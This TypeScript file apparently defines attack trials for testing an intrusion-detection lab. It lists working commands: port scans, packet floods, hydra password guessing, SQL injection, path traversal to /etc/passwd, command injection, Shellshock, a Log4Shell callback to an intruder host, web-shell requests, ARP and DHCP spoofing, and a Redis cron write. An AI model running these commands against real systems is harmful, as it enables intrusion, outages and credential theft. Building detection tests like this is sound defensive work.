import { breakIns } from './break-ins.ts'
import { hosts, outside } from './hub.ts'
import type { Trial } from './trial.ts'

const { server, client, router } = hosts
const intruder = outside.intruder
const web = `http://${server}`
function byIntruder(
  entries: readonly (readonly [name: string, about: string, command: string, seconds?: number])[],
): readonly Trial[] {
  return entries.map(([name, about, command, secondsMax = 25]) => {
    return { name, about, from: 'intruder', command, secondsMax }
  })
}

const scans = byIntruder([
  ['nmap-syn', 'nmap `-sS`, 1,000 ports', `nmap -n -sS ${server}`],
  ['nmap-connect', 'nmap `-sT -F`', `nmap -n -sT -F ${server}`],
  [
    'nmap-slow',
    'nmap, one of 17 ports each 1.5 s',
    `nmap -n -sS --scan-delay 1500ms -p 21-23,25,53,80,110,143,443,445,993,1433,3306,3389,5432,5900,8080 ${server}`,
    45,
  ],
  ['nmap-fin', 'nmap `-sF -F`', `nmap -n -sF -F ${server}`],
  ['nmap-xmas', 'nmap `-sX -F`', `nmap -n -sX -F ${server}`],
  ['nmap-ack', 'nmap `-sA -F`', `nmap -n -sA -F ${server}`],
  ['nmap-udp', 'nmap `-sU`, 40 ports', `nmap -n -sU -T4 --top-ports 40 ${server}`, 40],
  ['nmap-version', 'nmap `-O -sV -F`', `nmap -n -O -sV -F ${server}`, 45],
  [
    'nmap-scripts',
    'nmap `-sC` of six services',
    `nmap -n -sC -p 21,22,80,161,445,6379 ${server}`,
    45,
  ],
  ['nmap-hosts', 'nmap `-sn` of a network', 'nmap -n -sn 10.20.0.0/24'],
  ['nmap-fragments', 'nmap `-f -F`', `nmap -n -f -sS -F ${server}`],
  ['nmap-ipv6', 'nmap `-6 -F`', 'nmap -6 -n -sS -F fd20::10'],
  ['masscan', 'masscan, 200 ports of 8 hosts', 'masscan 10.20.0.8/29 -p1-200 --rate 400 --wait 2'],
  ['arp-scan', 'arp-scan of a network', 'arp-scan -I eth0 10.20.0.0/24'],
])

const floods = byIntruder([
  ['flood-syn', 'hping3 SYN flood', `timeout 3 hping3 -q -S -p 80 -i u300 ${server}`],
  ['flood-udp', 'hping3 UDP flood', `timeout 3 hping3 -q --udp -p 53 -d 400 -i u300 ${server}`],
  ['flood-ping', 'hping3 ping flood', `timeout 3 hping3 -q -1 -i u300 ${server}`],
  [
    'smurf',
    'hping3 Smurf',
    `ping -c 2 ${router}; timeout 3 hping3 -q -1 -i u500 -a ${server} 10.20.0.255`,
  ],
  [
    'slowloris',
    'slowhttptest, headers',
    `slowhttptest -c 200 -H -i 5 -r 100 -t GET -u ${web}/page1.html -l 25`,
    32,
  ],
  ['http-flood', 'ab, 6,000 requests', `ab -q -n 6000 -c 50 ${web}/page1.html`],
])

const guesses = byIntruder([
  ['guess-ssh', 'hydra, SSH', `hydra -t 8 -l root -x 3:3:a ssh://${server}`],
  ['guess-ftp', 'hydra, FTP', `hydra -t 8 -l anna -x 3:3:a ftp://${server}`],
  [
    'guess-form',
    'hydra, a form',
    `hydra -t 8 -l anna -x 3:3:a ${server} http-post-form '/app:u=^USER^&p=^PASS^:F=failed'`,
  ],
  [
    'guess-snmp',
    'onesixtyone, 60 names',
    `for i in $(seq 60); do echo name$i; done > /run/names; onesixtyone -c /run/names ${server}`,
  ],
])

const web_ = (name: string, about: string, ...requests: readonly string[]): Trial => ({
  name,
  about,
  from: 'intruder',
  command: requests.map((request) => `curl -s --path-as-is -g -m 5 ${request}`).join('; sleep 1; '),
  secondsMax: 20,
})

const attacksOnSites: readonly Trial[] = [
  ...byIntruder([
    [
      'sqlmap',
      'sqlmap',
      `sqlmap --batch -u '${web}/app?id=1' --level 1 --technique BEU --flush-session`,
      40,
    ],
    [
      'gobuster',
      'gobuster, 950 paths',
      `gobuster dir -q -u ${web}/ -w /usr/share/dirb/wordlists/small.txt`,
    ],
    [
      'wapiti',
      'wapiti',
      `wapiti -u '${web}/app?id=1' --scope page -m sql,xss,exec,file --flush-session --max-scan-time 30 -f txt -o /run/wapiti`,
      45,
    ],
  ]),
  web_(
    'sql-injection',
    'SQL injection by hand',
    `'${web}/app?id=1%20UNION%20SELECT%20sql%20FROM%20sqlite_master'`,
  ),
  web_(
    'traversal',
    'path traversal',
    `${web}/../../../../etc/passwd`,
    `'${web}/app?file=..%2f..%2f..%2fetc%2fpasswd'`,
  ),
  web_('command-injection', 'command injection', `'${web}/app?ip=127.0.0.1;cat%20/etc/passwd'`),
  web_('shellshock', 'Shellshock', `-A '() { :;}; /bin/bash -c "id"' ${web}/cgi-bin/status`),
  web_('log4shell', 'Log4Shell', `-A '\${jndi:ldap://${intruder}:1389/a}' ${web}/`),
  web_(
    'web-shell',
    'commands for a web shell',
    `'${web}/app/shell.php?cmd=id'`,
    `'${web}/app/shell.php?cmd=whoami'`,
  ),
]

const links = byIntruder([
  [
    'arpspoof',
    'arpspoof',
    `ping -c 2 ${router}; timeout 15 arpspoof -i eth0 -t ${client} ${router}`,
  ],
  ['macof', 'macof', 'timeout 3 macof -i eth0 -n 3000'],
  [
    'parasite6',
    'parasite6',
    `ping -c 2 fd20::10; timeout 12 atk6-parasite6 eth0 & sleep 3; ip netns exec client ping -6 -c 3 fd20::10; ip -n client neigh flush dev eth0; ip netns exec client ping -6 -c 3 fd20::10; wait`,
  ],
  [
    'rogue-dhcp',
    'a second DHCP server',
    `timeout 15 dnsmasq -k -p 0 --dhcp-range=10.20.0.200,10.20.0.220,1h --interface=eth0 & sleep 2; ip netns exec client timeout 8 nmap -n --script broadcast-dhcp-discover -e eth0; wait`,
  ],
  [
    'icmp-redirect',
    'hping3 ICMP redirects',
    `ping -c 2 ${router}; timeout 8 hping3 -q -1 -C 5 -K 1 --icmp-gw ${hosts.intruder} --icmp-ipdst ${outside.resolver} --icmp-ipsrc ${client} -a ${router} ${client}`,
  ],
])

const services = byIntruder([
  [
    'redis',
    'Redis writes a cron table',
    `printf 'CONFIG SET dir /var/spool/cron\\r\\nCONFIG SET dbfilename root\\r\\n' | timeout 3 ncat ${server} 6379`,
  ],
  ['tftp', 'a configuration by TFTP', `tftp ${server} -c get startup-config /run/config`],
  [
    'smb-listing',
    'nmap `--script smb-enum*,smb-vuln*`',
    `nmap -n -Pn -p 445 --script 'smb-enum*,smb-vuln*' ${server}`,
    45,
  ],
])

/** What must be found, with its source. */
export const attacks: readonly Trial[] = [
  ...scans,
  ...floods,
  ...guesses,
  ...attacksOnSites,
  ...links,
  ...services,
  ...breakIns,
]
